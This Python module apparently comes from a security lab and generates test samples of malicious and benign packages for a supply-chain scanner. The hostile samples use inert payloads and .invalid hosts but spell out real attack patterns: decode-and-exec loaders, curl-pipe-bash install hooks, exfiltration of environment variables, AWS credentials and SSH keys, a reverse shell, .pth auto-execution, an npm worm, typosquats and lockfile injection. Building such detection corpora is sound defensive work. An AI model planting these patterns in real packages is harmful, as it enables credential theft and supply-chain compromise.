"""A corpus of hostile packages and requirement files after published incidents, and honest ones beside them.

Inert: addresses end in `.invalid` or name services without an account, nothing is installed, imported or run. Each
sample is modelled on a report of what such packages did, written anew.
"""

import base64
import gzip
import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import Iterator

from bartizan.lab.hostile_artefacts import Sample

_PAYLOAD = base64.b64encode(b"pass").decode()
_HOOK = "https://discord.com/api/webhooks/0/none"

PYTHON: tuple[tuple[str, str, str], ...] = (
    # (what it is modelled on, file in the package, source)
    ("decode-and-exec", "{n}/__init__.py", f"import base64\nexec(base64.b64decode('{_PAYLOAD}'))\n"),
    ("decode-by-alias", "{n}/__init__.py", f"from base64 import b64decode as d\nx = d('{_PAYLOAD}')\nexec(x)\n"),
    ("marshal-zlib", "{n}/__init__.py", "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n"),
    ("fernet-exec", "{n}/__init__.py", "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n"),
    ("chr-join", "{n}/core.py", "exec(''.join(map(chr, [112, 97, 115, 115])))\n"),
    ("builtins-exec", "{n}/core.py", f"import builtins, base64\nbuiltins.exec(base64.b85decode('{_PAYLOAD}'))\n"),
    ("getattr-exec", "{n}/core.py", "import builtins\ngetattr(builtins, 'exec')(bytes.fromhex('70617373').decode())\n"),
    ("import-call", "{n}/core.py", f"__import__('builtins').exec(__import__('base64').b64decode('{_PAYLOAD}'))\n"),
    ("download-exec", "{n}/__init__.py", "import requests\nexec(requests.get('https://a.invalid/p').text)\n"),
    (
        "urlopen-exec",
        "{n}/__init__.py",
        "from urllib.request import urlopen as u\nexec(u('https://a.invalid').read())\n",
    ),
    ("far-right", "{n}/core.py", "import os;" + " " * 300 + "__import__('os').system('true')\nx = 1\n"),
    ("unicode-exec", "{n}/core.py", f"import base64\n𝓮𝔁𝓮𝓬(base64.b64decode('{_PAYLOAD}'))\n"),
    (
        "webhook-tokens",
        "{n}/__init__.py",
        f"import os, requests\nrequests.post('{_HOOK}', json=dict(os.environ))\n",
    ),
    (
        "aws-credentials",
        "{n}/__init__.py",
        "import os\nfrom urllib import request\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "request.urlopen('https://a.invalid', data.encode())\n",
    ),
    (
        "ssh-keys-dns",
        "{n}/__init__.py",
        "import os, socket\n\ndef go():\n    raw = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "    socket.gethostbyname(raw[:20] + '.a.invalid')\n\ngo()\n",
    ),
    (
        "discord-leveldb",
        "{n}/core.py",
        "import os, requests\n\ndef tokens():\n    root = os.getenv('APPDATA') + '/discord/Local Storage/leveldb'\n"
        f"    requests.post('{_HOOK}', data=root)\n",
    ),
    (
        "metadata-service",
        "{n}/core.py",
        "import requests\n\ndef role():\n    return "
        "requests.get('http://169.254.169.254/latest/meta-data/iam/').text\n",
    ),
    (
        "reverse-shell",
        "{n}/core.py",
        "import os, pty, socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nos.dup2(s.fileno(), 0)\n"
        "pty.spawn('/bin/true')\n",
    ),
    ("curl-bash", "{n}/core.py", "import os\nos.system('curl -s https://a.invalid/i.sh | bash')\n"),
    (
        "powershell",
        "{n}/core.py",
        f"import subprocess\nsubprocess.Popen('powershell -enc {_PAYLOAD * 4}', shell=True)\n",
    ),
    (
        "telegram-bot",
        "{n}/__init__.py",
        "import requests\nrequests.post('https://api.telegram.org/bot0:none/sendMessage', data={'text': 'x'})\n",
    ),
    ("pth-exec", "{n}_init.pth", f"import base64; exec(base64.b64decode('{_PAYLOAD}'))\n"),
    (
        "pth-subprocess",
        "{n}.pth",
        "import os, subprocess; subprocess.Popen(['true']); import urllib.request as u; "
        "u.urlopen('https://a.invalid')\n",
    ),
)
SETUP: tuple[tuple[str, str], ...] = (
    (
        "setup-download",
        "import os\nfrom urllib.request import urlretrieve\nurlretrieve('https://a.invalid/x', "
        "'x')\nos.system('./x')\n",
    ),
    (
        "setup-environ",
        "import os, json\nfrom http.client import HTTPSConnection as C\n"
        "C('a.invalid').request('POST', '/', json.dumps(dict(os.environ)))\n",
    ),
    (
        "setup-install-class",
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport "
        "socket, os, requests\n\n"
        "class I(install):\n    def run(self):\n        requests.post('https://x.oast.fun', "
        "json={'h': socket.gethostname()})\n"
        "        install.run(self)\n\nsetup(name='x', cmdclass={'install': I})\n",
    ),
    (
        "setup-decode",
        f"import base64\nfrom setuptools import setup\nexec(base64.b64decode('{_PAYLOAD}'))\nsetup(name='x')\n",
    ),
)
NPM: tuple[tuple[str, dict[str, str], dict[str, str]], ...] = (
    # (name, scripts, further files)
    ("npm-curl", {"preinstall": "curl -s https://a.invalid/i.sh | sh"}, {}),
    ("npm-env-dns", {"install": "nslookup $(whoami).a.invalid"}, {}),
    ("npm-node-e", {"postinstall": f'node -e "{"x" * 300}"'}, {}),
    (
        "npm-worm",
        {"postinstall": "node bundle.js"},
        {
            "bundle.js": (
                "const c=require('child_process');c.execSync('trufflehog filesystem /');"
                "fetch('https://webhook.site/0',{body:JSON.stringify(process.env)})"
            )
        },
    ),
    (
        "npm-env-post",
        {"preinstall": "node index.js"},
        {
            "index.js": (
                "const https=require('https');const d=JSON.stringify(process.env);"
                "https.request({hostname:'a.invalid'}).end(d)"
            )
        },
    ),
    ("npm-eval-buffer", {}, {"index.js": f"eval(Buffer.from('{_PAYLOAD}','base64').toString())"}),
    ("npm-eval-fetched", {}, {"index.js": "https.get('https://a.invalid/j', r => r.on('data', d => eval(d)))"}),
    ("npm-obfuscated", {}, {"index.js": "".join(f"var _0x{number:04x}=1;" for number in range(200))}),
    (
        "npm-ssh-key",
        {"postinstall": "node i.js"},
        {"i.js": "fs.readFileSync(h+'/.ssh/id_rsa');fetch('https://a.invalid')"},
    ),
)
REQUIREMENTS: tuple[tuple[str, str, str], ...] = (
    ("typosquat", "requirements.txt", "reqeusts==2.32.0 --hash=sha256:" + "0" * 64 + "\n"),
    ("typosquat-model-library", "requirements.txt", "tensorfIow==2.20.0\nhuggingface-hubb==0.30.0\n"),
    ("plain-index", "requirements.txt", "--index-url http://pypi.invalid/simple\nnumpy==2.4.0\n"),
    ("trusted-host", "requirements.txt", "--trusted-host pypi.invalid\nnumpy==2.4.0\n"),
    ("plain-url", "requirements.txt", "numpy @ http://a.invalid/numpy-2.4.0-py3-none-any.whl\n"),
    ("npm-typosquat", "package.json", json.dumps({"name": "x", "dependencies": {"lodahs": "^4.0.0"}})),
    (
        "lock-injection",
        "package-lock.json",
        json.dumps(
            {
                "lockfileVersion": 3,
                "packages": {
                    "node_modules/express": {
                        "version": "4.0.0",
                        "resolved": "https://registry.npmjs.org/evil/-/evil-4.0.0.tgz",
                        "integrity": "sha512-AAAA",
                    }
                },
            }
        ),
    ),
)
_HONEST = (
    (
        "json_reader",
        ("import json\n\n\ndef read(path):\n    with open(path) as file:\n        return json.load(file)\n"),
    ),
    (
        "api_client",
        "import os\nimport requests\n\n\ndef ask(q):\n    key = os.environ['API_KEY']\n    return "
        "requests.get('https://api.invalid', headers={'k': key}).json()\n",
    ),
    ("packer", "import base64, zlib\n\n\ndef unpack(text):\n    return zlib.decompress(base64.b64decode(text))\n"),
    (
        "runner",
        "import subprocess\n\n\ndef version():\n    return subprocess.run(['git', '--version'], "
        "capture_output=True).stdout\n",
    ),
    (
        "templates",
        "def compile_template(source):\n    code = compile(source, '<template>', 'exec')\n    "
        "scope = {}\n    exec(code, scope)\n    return scope['render']\n",
    ),
)


def hostile_packages() -> Iterator[Sample]:
    """Yield wheels, sdists, npm tarballs and requirement files that do or ask for what published attacks did."""
    for name, file, source in PYTHON:
        plain = name.replace("-", "_")
        yield Sample(f"{plain}-1.0-py3-none-any.whl", wheel(plain, {file.format(n=plain): source}), True)
    for name, source in SETUP:
        yield Sample(f"{name}-1.0.tar.gz", sdist(name, {"setup.py": source}), True)
    for name, scripts, files in NPM:
        yield Sample(f"{name}-1.0.0.tgz", npm(name, scripts, files), True)
    for name, file, text in REQUIREMENTS:
        yield Sample(f"{name}/{file}", text.encode(), True)
    yield Sample("reqeusts-1.0-py3-none-any.whl", wheel("reqeusts", {"reqeusts/__init__.py": "x = 1\n"}), True)
    changed = wheel("changed", {"changed/__init__.py": "x = 1\n"}, forged="x = 2\n")
    yield Sample("changed-1.0-py3-none-any.whl", changed, True)


def honest_packages() -> Iterator[Sample]:
    """Yield ordinary packages and lock files: nothing in them may be blocked."""
    for name, source in _HONEST:
        yield Sample(f"{name}-1.0-py3-none-any.whl", wheel(name, {f"{name}/__init__.py": source}), False)
        setup = "from setuptools import setup\n\nsetup(name='x', version='1.0')\n"
        yield Sample(f"{name}-1.0.tar.gz", sdist(name, {"setup.py": setup, f"{name}.py": source}), False)
    files = {"index.js": "module.exports = a => a + 1\n"}
    yield Sample("adder-1.0.0.tgz", npm("adder-of-numbers", {"test": "node test.js"}, files), False)
    yield Sample("native-1.0.0.tgz", npm("native-adder-of-numbers", {"install": "node-gyp rebuild"}, files), False)
    locked = "".join(
        f"{name}=={version} \\\n    --hash=sha256:{hashlib.sha256(name.encode()).hexdigest()}\n"
        for name, version in (("numpy", "2.4.0"), ("requests", "2.32.5"), ("my-own-package", "1.0"))
    )
    yield Sample("app/requirements.txt", locked.encode(), False)
    yield Sample("app/pyproject.toml", b'[project]\nname = "app"\ndependencies = ["numpy>=2,<3", "httpx"]\n', False)
    yield Sample("web/package.json", json.dumps({"dependencies": {"react": "^19.0.0"}}).encode(), False)


def wheel(name: str, files: dict[str, str], forged: str = "") -> bytes:
    """Return a wheel with these files. With `forged`, the list of files speaks of that content instead."""
    info = f"{name}-1.0.dist-info"
    members = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    listed = {file: forged or text for file, text in files.items()} | {
        k: v for k, v in members.items() if k not in files
    }
    record = "".join(f"{file},sha256={_digest(text)},{len(text)}\n" for file, text in listed.items())
    members[f"{info}/RECORD"] = f"{record}{info}/RECORD,,\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for file, text in members.items():
            archive.writestr(zipfile.ZipInfo(file), text)
    return buffer.getvalue()


def _digest(text: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")


def sdist(name: str, files: dict[str, str]) -> bytes:
    """Return a source distribution with these files."""
    about = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
    return _tarball({f"{name}-1.0/{file}": text for file, text in {"PKG-INFO": about, **files}.items()})


def npm(name: str, scripts: dict[str, str], files: dict[str, str]) -> bytes:
    """Return an npm tarball with these scripts and files."""
    about = json.dumps({"name": name, "version": "1.0.0", "scripts": scripts})
    return _tarball({f"package/{file}": text for file, text in {"package.json": about, **files}.items()})


def _tarball(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for file, text in files.items():
            info = tarfile.TarInfo(file)
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return gzip.compress(buffer.getvalue(), mtime=0)
